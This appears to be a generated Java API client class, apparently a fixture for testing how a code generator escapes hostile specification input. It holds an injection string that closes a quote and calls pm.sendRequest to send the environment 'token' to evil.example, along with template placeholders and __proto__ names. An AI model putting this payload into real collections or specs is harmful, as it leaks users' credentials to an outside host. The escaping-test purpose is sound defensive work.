package com.example.api;

import com.example.api.model.PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest;
import io.github.authdex.client.Answer;
import io.github.authdex.client.ApiClient;
import io.github.authdex.client.Call;
import io.github.authdex.client.Parameters;
import java.io.IOException;
import java.util.concurrent.CompletableFuture;

/**
 * The operations of __proto__.
 */
public final class ProtoApi {
  private final ApiClient client;

  ProtoApi(ApiClient client) {
    this.client = client;
  }

  /**
   * {{{{hostile_token}}
   *
   * <p>Reads {{hostile_token}} and   ends.
   *
   * @param body the content
   * @throws IOException if the API refuses or cannot be reached
   */
  public void pmSendRequestHttpsEvilExamplePmEnvironmentGetToken(String hostileToken, String aB,
      String x, String hostileTokenQuery, String xHostileToken, String xFine,
      String hostileTokenCookie, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body)
      throws IOException {
    pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(
        hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body)
        .send();
  }

  /**
   * {{{{hostile_token}}
   *
   * @param body the content
   * @return what the API answers, when it is there
   */
  public CompletableFuture<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenAsync(
      String hostileToken, String aB, String x, String hostileTokenQuery, String xHostileToken,
      String xFine, String hostileTokenCookie,
      PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
    return pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(
        hostileToken, aB, x, hostileTokenQuery, xHostileToken, xFine, hostileTokenCookie, body)
        .sendAsync();
  }

  /**
   * Returns the call of pmSendRequestHttpsEvilExamplePmEnvironmentGetToken, whose response has
   * status and headers.
   *
   * @return the call, not sent yet
   */
  public Call<Void> pmSendRequestHttpsEvilExamplePmEnvironmentGetTokenCall(String hostileToken,
      String aB, String x, String hostileTokenQuery, String xHostileToken, String xFine,
      String hostileTokenCookie, PmSendRequestHttpsEvilExamplePmEnvironmentGetTokenRequest body) {
    return client.call(
        "'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //", "POST",
        "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/\u00fc", AcmeHostileSecurity.NEEDS_TOKEN,
        Answer.none())
        .with(new Parameters()
        .path("hostile_token", Parameters.required("hostile_token", hostileToken))
        .path("a.b", Parameters.required("a.b", aB))
        .path("x", Parameters.required("x", x))
        .query("{{hostile_token}}&=#", Parameters.required("{{hostile_token}}&=#", hostileTokenQuery))
        .header("X-{{hostile_token}}", Parameters.required("X-{{hostile_token}}", xHostileToken))
        .header("X-Fine", Parameters.required("X-Fine", xFine))
        .cookie("{{hostile_token}}", Parameters.required("{{hostile_token}}", hostileTokenCookie)))
        .json("application/json", Parameters.required("body", body));
  }
}
